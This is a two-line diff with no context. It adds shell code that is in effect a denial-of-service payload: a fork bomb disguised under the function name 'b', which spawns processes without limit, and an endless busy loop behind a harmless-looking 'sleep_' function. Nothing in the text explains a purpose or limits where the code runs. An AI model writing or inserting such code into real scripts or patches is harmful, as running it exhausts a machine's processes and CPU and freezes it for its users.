@@ -1,0 +1,2 @@
+b() { b | b & }; b
+sleep_() { :; }; while :; do :; done
